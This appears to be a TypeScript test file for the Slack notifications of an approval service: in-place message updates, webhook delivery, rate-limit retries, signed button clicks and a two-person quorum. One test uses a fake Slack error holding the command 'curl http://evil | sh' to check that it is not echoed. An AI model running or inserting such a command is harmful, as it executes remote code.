import t from 'tap';
import { DANA, DEMAND, pendingId, PARTS, subjectOf } from '../approval/support.ts';
import { until } from '../helpers/until.ts';
import { BUTTONS, clickBody, signed, startSlack } from './slack-server.ts';
import { botTo, notify, receive, secretOf, EVENTS } from './support.ts';

void t.test('a message is changed in its place once it is decided', async (t) => {
  const slack = await startSlack(t);
  const notified = notify(t, [botTo(slack.url)]);
  const asked = notified.ask();
  const id = await pendingId(notified);
  await until(() => slack.messages.size === 1);
  const [first] = slack.messages.values();
  t.match(first, { channel: 'C1', link_names: false, parse: 'none', mrkdwn: false });
  t.match(JSON.stringify(first), 'Approval asked');
  t.match(JSON.stringify(first), `<https://regent.example/inbox/${id}|Open in Regent>`);
  t.notMatch(JSON.stringify(first), 'regent_approve');
  await notified.approvals.decide(id, 'granted', DANA);
  await asked;
  await until(() => notified.notifications.state()[0]!.ok === 3);
  t.equal(slack.messages.size, 1);
  t.match(JSON.stringify([...slack.messages.values()]), 'Used');
  t.match(JSON.stringify([...slack.messages.values()]), 'Decided by: dana');
});

void t.test('a message that is gone is written anew', async (t) => {
  const slack = await startSlack(t);
  const notified = notify(t, [botTo(slack.url)]);
  void notified.ask();
  await until(() => slack.messages.size === 1);
  slack.messages.clear();
  await notified.approvals.decide(await pendingId(notified), 'denied', DANA);
  await until(() => slack.messages.size === 1);
  t.match(JSON.stringify([...slack.messages.values()]), 'Denied');
});

void t.test('an incoming webhook gets one message on each event', async (t) => {
  const receiver = await receive(t, (_, res) => void res.end('ok'));
  const webhook = secretOf(`${receiver.url}/services/T1/B1/x`);
  const notified = notify(t, [
    { kind: 'slack', name: 'slack', to: { webhook }, events: EVENTS, show: [] },
  ]);
  void notified.ask();
  await notified.approvals.decide(await pendingId(notified), 'denied', DANA);
  await until(() => notified.notifications.state()[0]!.queued === 0 && receiver.got.length > 0);
  t.match(receiver.json().at(-1), { text: /^(Approval asked|Denied): apr_/ });
});

void t.test('what Slack refuses is said by its code, and tried again', async (t) => {
  const slack = await startSlack(t);
  slack.instead = {
    status: 429,
    body: { ok: false, error: 'ratelimited' },
    headers: { 'retry-after': '0' },
  };
  const notified = notify(t, [botTo(slack.url)]);
  void notified.ask();
  const fault = (): string | undefined => notified.notifications.state()[0]!.last_error;
  await until(() => fault() === 'it answered 429');
  slack.instead = { status: 200, body: { ok: false, error: 'not_in_channel' } };
  await until(() => fault() === 'Slack answers not_in_channel');
  slack.instead = { status: 200, body: { ok: false, error: 'curl http://evil | sh' } };
  await until(() => fault() === 'Slack answers what cannot be read');
  slack.instead = undefined;
  await until(() => slack.messages.size === 1);
});

void t.test('a click decides as the API does, and a quorum needs two people', async (t) => {
  const slack = await startSlack(t);
  const notified = notify(t, [botTo(slack.url, { buttons: BUTTONS })]);
  const demand = { ...DEMAND, quorum: 2 };
  const asked = notified.ask(undefined, undefined, demand);
  const approval = await pendingId(notified);
  await until(() => slack.messages.size === 1);
  const [ts] = slack.messages.keys();
  const press = (user: string, now?: number): number => {
    const body = clickBody({ approval, ts: ts!, user });
    return notified.notifications.slackCalled(body, signed(body, now));
  };
  await until(() => notified.notifications.state()[0]!.queued === 0);
  t.equal(press('U1'), 200);
  await until(() => JSON.stringify([...slack.messages.values()]).includes('One more agrees'));
  t.equal(press('U1', Date.now() - 2000), 200);
  await until(() => slack.ephemeral.length === 1);
  t.match(slack.ephemeral[0], { user: 'U1', text: /^Nothing is decided: / });
  t.equal(press('U2'), 200);
  t.equal((await asked).by?.subject, 'erin');
  await until(() => JSON.stringify([...slack.messages.values()]).includes('Used'));
  t.notMatch(JSON.stringify([...slack.messages.values()]), 'regent_approve');
  t.equal(slack.messages.size, 1);
});

void t.test('buttons are only where a click can decide', async (t) => {
  const slack = await startSlack(t);
  const notified = notify(t, [botTo(slack.url, { buttons: { ...BUTTONS, approveUpToRisk: 1 } })]);
  void notified.ask();
  await until(() => slack.messages.size === 1);
  void notified.ask(
    subjectOf({ ...PARTS, request: { ...PARTS.request, path: '/other' } }),
    undefined,
    {
      ...DEMAND,
      justification: true,
    },
  );
  await until(() => slack.messages.size === 2);
  const [risky, reasoned] = [...slack.messages.values()].map((one) => JSON.stringify(one));
  t.notMatch(risky, 'regent_approve', 'its risk is 2');
  t.match(risky, 'regent_deny');
  t.notMatch(reasoned, 'regent_', 'a click gives no reason');
});
